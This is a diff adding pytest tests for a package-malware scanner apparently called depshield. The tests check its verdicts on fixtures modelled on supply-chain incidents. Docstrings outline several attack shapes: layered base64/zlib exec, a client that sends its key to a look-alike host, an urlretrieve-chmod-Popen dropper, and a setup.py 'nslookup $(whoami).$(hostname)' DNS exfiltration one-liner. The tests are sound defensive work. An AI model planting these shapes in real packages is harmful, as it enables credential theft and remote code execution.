@@ -1,0 +1,98 @@
+"""The 2024-2026 Python and shell shapes of INCIDENTS.md, as inert fixtures, end to end.
+
+Shapes depshield does not yet judge right are strict xfails: each names the gap, and turns into a
+failure (to be promoted to a plain expectation) the day the behaviour model closes it.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from depshield.analysis import analyze_artifact
+from depshield.model import PackageResult
+
+FIXTURES = Path(__file__).parent / "fixtures"
+THREATS = {
+    "dataExfiltration",
+    "remoteCodeDownload",
+    "encodedPayloadExecution",
+    "reverseShell",
+    "credentialHarvesting",
+}
+
+
+def analyze(group: str, name: str) -> PackageResult:
+    return analyze_artifact(FIXTURES / group / name)
+
+
+def alerts(result: PackageResult) -> set[tuple[str, str | None, int | None, str]]:
+    return {(a.type, a.file, a.line, a.action) for a in result.alerts}
+
+
+def test_layered_lambda_import_exec_is_blocked_at_its_line() -> None:
+    """Reversed base64 -> zlib -> exec, with the decoders reached through __import__ in a lambda."""
+    result = analyze("incidents", "pypi-layered-exec")
+    assert result.verdict == "block"
+    assert ("encodedPayloadExecution", "layeredpkg/__init__.py", 2, "error") in alerts(result)
+
+
+def test_token_and_key_sent_to_a_look_alike_host_in_headers_is_blocked() -> None:
+    """aiocpa shape: the client's constructor posts its token and private key to a foreign host."""
+    result = analyze("incidents", "pypi-key-header-exfil")
+    assert result.verdict == "block"
+    assert ("dataExfiltration", "cryptopayapi/client.py", 8, "error") in alerts(result)
+
+
+def test_setup_py_dns_probe_one_liner_is_blocked() -> None:
+    """`nslookup $(whoami).$(hostname).<oast>` in setup.py sends a host survey over DNS."""
+    result = analyze("incidents", "pypi-shell-oneliners")
+    assert result.verdict == "block"
+    assert ("dataExfiltration", "setup.py", 5, "error") in alerts(result)
+
+
+def test_weights_downloaded_with_curl_and_never_run_are_not_a_threat() -> None:
+    """ultralytics shape: curl fetches model weights that are read as data, never executed."""
+    result = analyze("lookalikes", "pypi-weights-download")
+    assert result.verdict == "pass"
+    assert not {a.type for a in result.alerts} & THREATS
+
+
+def test_download_chmod_run_across_functions_at_import_is_blocked() -> None:
+    """`_launch(_fetch(_target()))`: urlretrieve to a temp path in one function, returned and
+    handed as a parameter to another that chmods and Popens it."""
+    result = analyze("incidents", "pypi-dropper-chmod")
+    assert ("remoteCodeDownload", "fastfetchutil/__init__.py", 19, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+@pytest.mark.xfail(strict=True, reason="gap: a shipped shell script's wget&&chmod&&run is monitor")
+def test_shipped_shell_script_download_and_run_warns_at_least() -> None:
+    result = analyze("incidents", "pypi-shell-oneliners")
+    found = {(t, f, ln) for t, f, ln, act in alerts(result) if act in ("error", "warn")}
+    assert ("remoteCodeDownload", "shellprobe/init.sh", 3) in found
+
+
+def test_hash_pinned_release_downloader_called_only_is_not_blocked() -> None:
+    result = analyze("lookalikes", "pypi-pinned-binary-download")
+    assert result.verdict != "block"
+    assert not {a.type for a in result.alerts} & THREATS
+
+
+def test_a_path_handed_between_functions_without_a_download_is_not_remote_code(
+    tmp_path: Path,
+) -> None:
+    """The same call shape with a local write (a generated script, no download) is no threat."""
+    pkg = tmp_path / "localgen"
+    (pkg / "localgen").mkdir(parents=True)
+    (pkg / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: localgen\nVersion: 1.0\n")
+    (pkg / "localgen" / "__init__.py").write_text(
+        "import os\nimport subprocess\n\n\n"
+        "def _write(path):\n    with open(path, 'w') as f:\n        f.write('echo hi')\n"
+        "    return path\n\n\n"
+        "def _launch(path):\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n\n\n"
+        "def build():\n    _launch(_write('gen.sh'))\n"
+    )
+    result = analyze_artifact(pkg)
+    assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))
